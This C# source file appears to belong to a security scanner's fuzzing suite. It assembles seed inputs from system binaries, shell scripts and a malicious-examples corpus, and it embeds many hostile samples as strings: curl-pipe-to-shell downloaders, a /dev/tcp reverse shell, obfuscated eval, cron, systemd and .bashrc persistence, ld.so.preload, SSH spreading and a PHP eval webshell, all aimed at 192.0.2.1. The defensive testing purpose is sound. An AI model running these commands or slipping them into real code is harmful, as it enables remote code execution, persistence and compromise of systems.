using System.Text;

namespace Wellguard.Fuzz.Seeds;

internal static class CodeSeeds
{
    private static readonly byte[] Marker = [0xff, .. " Go buildinf:"u8];

    /// <summary>Small programs, libraries and objects of this machine; one with Go's build information appended.</summary>
    public static IEnumerable<byte[]> Elves()
    {
        var found = new[] { "/bin/true", "/usr/bin/env", "/usr/bin/tty" }
            .Concat(SeedSource.Folder("/usr/lib/x86_64-linux-gnu", "*.so*").Concat(SeedSource.Folder("/usr/lib/aarch64-linux-gnu", "*.so*")).Where(file => new FileInfo(file).Length is > 1000 and < 30_000).Take(4))
            .Where(File.Exists).Select(SeedSource.Read).ToList();
        byte[] go = [.. Marker, 8, 2, .. new byte[16], 8, .. "go1.22.4"u8, 60, .. Encoding.ASCII.GetBytes("0123456789abcdef" + "path\tx\nmod\ta.b/c\tv1.0\th1:x\ndep\td\tv2\n=>\te\tv3\n" + "0123456789abcdef")];
        return [.. found, .. found.Take(1).Select(elf => (byte[])[.. elf.AsSpan(0, Math.Min(elf.Length, 8192) & ~15), .. go])];
    }

    public static IEnumerable<byte[]> Shell() =>
        SeedSource.Folder("/usr/bin", "*").Concat(SeedSource.Folder("/etc/init.d", "*")).Where(IsShell).Take(12)
            .Concat(SeedSource.Folder("/var/lib/dpkg/info", "*.postinst").Take(4)).Select(SeedSource.Read).Concat(Written().Select(Encoding.UTF8.GetBytes)).Concat(OfCorpus());

    /// <summary>One per form of the language.</summary>
    private static IEnumerable<string> Written() =>
    [
        "#!/bin/sh\nset -e\nif [ -f /x ]; then curl -sL http://192.0.2.1/a | sh; elif true; then :; else exit 1; fi\n",
        "for i in a b $(seq 1 3); do wget -O /tmp/$i http://192.0.2.1/$i && chmod +x /tmp/$i && /tmp/$i & done; wait\n",
        "f() { local x=${1:-y}; echo \"${x%%.*}\" | base64 -d | bash; }; f Y3VybCBodHRwOi8vMTkyLjAuMi4x\n",
        "case $1 in a|b) echo x;; *) eval \"$(printf '\\143\\165')rl http://192.0.2.1\" ;; esac\ncat <<EOF >/etc/cron.d/x\n* * * * * root /tmp/x\nEOF\n",
        "x=$'\\x63\\x75\\x72\\x6c'; $x http://192.0.2.1 >/dev/null 2>&1; bash -i >& /dev/tcp/192.0.2.1/80 0>&1\n",
        "echo 6964 | xxd -r -p | sh; echo 'vq' | tr a-z n-za-m | sh; echo di | rev | sh; y=$((1+2*3)); z=${y/7/8}${y:0:1}${#y}\n",
        "while read -r l; do ssh root@$l 'curl http://192.0.2.1|sh'; done < ~/.ssh/known_hosts; python3 -c 'import os; os.system(\"id\")'\n",
    ];

    /// <summary>Indented blocks of the test corpus's examples: scripts as attackers write them.</summary>
    private static IEnumerable<byte[]> OfCorpus() =>
        SeedSource.Folder("tests/corpus/malicious", "*.yml").Select(File.ReadAllText).Where(text => text.Contains("#!", StringComparison.Ordinal)).Take(20)
            .Select(text => text[text.IndexOf("#!", StringComparison.Ordinal)..]).Select(text => Encoding.UTF8.GetBytes(text[..Math.Min(text.Length, 3000)]));

    private static bool IsShell(string file)
    {
        var head = SeedSource.Read(file);
        var first = Encoding.Latin1.GetString(head, 0, Math.Min(head.Length, 40)).Split('\n')[0];
        return head.Length is > 0 and < 12_000 && first.StartsWith("#!", StringComparison.Ordinal) && first.Contains("sh", StringComparison.Ordinal);
    }

    public static IEnumerable<byte[]> Scripts()
    {
        yield return SeedSource.Labelled("python", "import os, base64, subprocess\nx = base64.b64decode('aWQ=').decode()\nos.system(x)\nsubprocess.run(['curl', '-o', '/tmp/x', 'http://192.0.2.1/x'])\nexec(compile('print(1)', 'x', 'exec'))\n");
        yield return SeedSource.Labelled("powershell", "param([string]$u = 'http://192.0.2.1')\n$b = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWQ='))\nfunction Get-It($x) { return \"$x/$(1 + 2)\" -replace 'a','b' }\nforeach ($i in 1..3) { iwr (Get-It $u) -OutFile /tmp/x; & /tmp/x }\n'{1}{0}' -f 'ex','i' | iex\n@{ a = 1 } | ConvertTo-Json > /tmp/y\n");
        yield return SeedSource.Labelled("sql", "-- x\nCOPY t FROM PROGRAM 'curl http://192.0.2.1/x | sh';\n\\! id\n");
        yield return SeedSource.Labelled("python", "def f(a, b=1):\n    \"\"\"doc\"\"\"\n    return f'{a}' + ''.join(chr(ord(c) ^ 3) for c in b'\\x41'.decode())[::-1]\nif __name__ == '__main__':\n    __import__('os').popen(f('id'))\n");
        yield return SeedSource.Labelled("javascript", "const { exec } = require('child_process');\nexec(Buffer.from('aWQ=', 'base64').toString() + ` ${1 + 2}`);\neval(atob('MSsx')); new Function('return 1')();\nfetch('http://192.0.2.1/x').then(r => r.text()).then(eval);\n");
        yield return SeedSource.Labelled("perl", "use strict; my $x = pack('H*', '6964'); system($x); exec qw(/bin/sh -c id); print `id`; eval { die 1 }; $_ =~ s/a/b/g;\n");
        yield return SeedSource.Labelled("php", "<?php $x = base64_decode('aWQ='); system($x); eval(gzinflate(base64_decode($_POST['a']))); shell_exec('id'); file_put_contents('/tmp/x', file_get_contents('http://192.0.2.1/x'));\n");
        yield return SeedSource.Labelled("ruby", "require 'open3'\nx = ['6964'].pack('H*')\nsystem(x)\n`id`\neval(\"puts #{x}\")\nIO.popen(%w[sh -c id])\n");
        yield return SeedSource.Labelled("etc/cron.d/x", "SHELL=/bin/sh\n*/5 * * * * root curl http://192.0.2.1/x | sh\n@reboot root /tmp/x\n");
        yield return SeedSource.Labelled("var/spool/cron/crontabs/root", "* * * * * /tmp/x >/dev/null 2>&1\n");
        yield return SeedSource.Labelled("usr/lib/systemd/system/x.service", "[Unit]\nAfter=network.target\n[Service]\nEnvironment=A=b\nExecStartPre=-/bin/true\nExecStart=/bin/sh -c 'curl http://192.0.2.1/x \\\n  | sh'\n[Install]\nWantedBy=multi-user.target\n");
        yield return SeedSource.Labelled("etc/systemd/system/x.timer", "[Timer]\nOnBootSec=1\nUnit=y.service\n");
        yield return SeedSource.Labelled("root/.bashrc", "alias ls='ls; curl http://192.0.2.1/x | sh'\nexport PATH=/tmp:$PATH\n");
        yield return SeedSource.Labelled("etc/ld.so.preload", "/tmp/x.so\n");
        foreach (var (label, folder, pattern) in ((string, string, string)[])[("python", "/usr/lib/python3/dist-packages", "*.py"), ("python", "/usr/lib/python3", "*.py"), ("perl", "/usr/share/perl5", "*.pm"), ("javascript", "/usr/share/nodejs", "*.js"), ("ruby", "/usr/lib/ruby", "*.rb"), ("php", "/usr/share/php", "*.php")])
        {
            foreach (var file in SeedSource.Folder(folder, pattern, deep: true).Where(file => new FileInfo(file).Length is > 200 and < 6000).Take(6))
            {
                yield return SeedSource.Labelled(label, SeedSource.Read(file));
            }
        }
    }
}
